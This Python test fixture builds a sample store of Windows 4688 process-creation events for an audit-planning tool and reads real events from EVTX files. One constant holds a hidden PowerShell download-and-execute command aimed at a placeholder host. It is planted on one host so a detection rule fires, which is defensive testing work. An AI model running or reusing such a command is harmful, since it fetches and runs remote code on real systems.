"""A small store and plan for the forwarding and noise tests, and real 4688 events from EVTX.

The store is built by hand so the ranking can be derived without the code under test: six hosts in
three roles, twelve sampled 4688s each, with known pairs; one host also ran a hidden PowerShell (the
family 3 rule fires on it).
"""

from __future__ import annotations

import xml.etree.ElementTree as ET
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import evtx

from auditplan.model import api as model
from auditplan.records import EstimateSource, Host, HostEstimate, HostResult, HostStatus, Range, SampledEvent
from auditplan.store import Store

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
SYS32 = "C:\\Windows\\System32\\"
SVCHOST = SYS32 + "svchost.exe"
SERVICES = SYS32 + "services.exe"
CONHOST = SYS32 + "conhost.exe"
CMD = SYS32 + "cmd.exe"
DLLHOST = SYS32 + "dllhost.exe"
POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
HOSTS = {"web01": "web_server", "web02": "web_server", "dc01": "domain_controller", "dc02": "domain_controller",
         "app01": "member_server", "app02": "member_server"}
PER_HOST = 12
# Per host: 6 svchost<-services, 3 conhost<-cmd, 2 dllhost<-svchost, 1 powershell<-explorer (benign on all
# hosts but web01, where it is hidden PowerShell).
MIX = [(SVCHOST, SERVICES, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p")] * 6 + \
      [(CONHOST, CMD, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1")] * 3 + \
      [(DLLHOST, SVCHOST, "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}")] * 2
HIDDEN = "powershell.exe -nop -w hidden -c iex(iwr http://example.invalid/a)"
BENIGN_PS = "powershell.exe -File C:\\Scripts\\inventory.ps1"


def _estimate(host: str, role: str, p50: float) -> HostEstimate:
    return HostEstimate(
        host=host, role=role, site="lon", os_family="2019", events_per_day=Range(p50 / 2, p50, p50 * 2),
        source=EstimateSource.MEASURED_4688, peak_hour_factor=2.0, hourly_shape=tuple([1 / 24] * 24),
        bytes_per_event_xml=1500.0, bytes_per_event_xml_no_cmdline=1400.0, cmdline_length_p50=80.0,
        bytes_source="dev_set", already_on=False, cmdline_already_on=False, cmdline_supported=True)


def sampled(host: str) -> tuple[SampledEvent, ...]:
    rows = [*MIX, (POWERSHELL, EXPLORER, HIDDEN if host == "web01" else BENIGN_PS)]
    return tuple(SampledEvent(time=NOW, event_id=4688, version=2, new_process_name=image, parent_process_name=parent,
                              subject_user_name="svc", command_line=line, size_bytes=1500)
                 for image, parent, line in rows)


@dataclass(frozen=True)
class Fixture:
    db: Path
    plan: Path


def make_store(folder: Path, *, events: bool = True, scale: float = 1.0) -> Fixture:
    """The store (sampled events unless `events` is False), its estimates, and a plan written beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    db = folder / "auditplan.db"
    with Store(db) as store:
        store.save_estimates("latest", [_estimate(h, r, (2000.0 + 1000.0 * i) * scale) for i, (h, r) in enumerate(HOSTS.items())])
        for host, role in HOSTS.items():
            store.save_result(HostResult(host=Host(name=host, address=host, role=role, site="lon"),
                                         status=HostStatus.OK, reason="", collected_at=NOW,
                                         events=sampled(host) if events else ()))
    model.plan(db, budget_kind=model.BUDGET_GB_DAY, budget=1.0, out_dir=folder)
    return Fixture(db, folder / "plan.json")


# -- real events ----------------------------------------------------------------------------------------


def strip_namespaces(xml: str) -> ET.Element:
    root = ET.fromstring(xml)
    for el in root.iter():
        if isinstance(el.tag, str) and "}" in el.tag:
            el.tag = el.tag.split("}", 1)[1]
    return root


def real_4688_xml(paths: list[Path]) -> list[str]:
    """Event XML of every 4688 in the EVTX files (as evtx-rs renders it)."""
    out = []
    for path in paths:
        for record in evtx.PyEvtxParser(str(path)).records():
            if record is None:  # evtx-rs yields None for a record it cannot read
                continue
            data = str(record["data"])
            if strip_namespaces(data).findtext("System/EventID") == "4688":
                out.append(data)
    return out


def event_data(root: ET.Element) -> dict[str, str]:
    return {d.get("Name", ""): d.text or "" for d in root.iter("Data")}
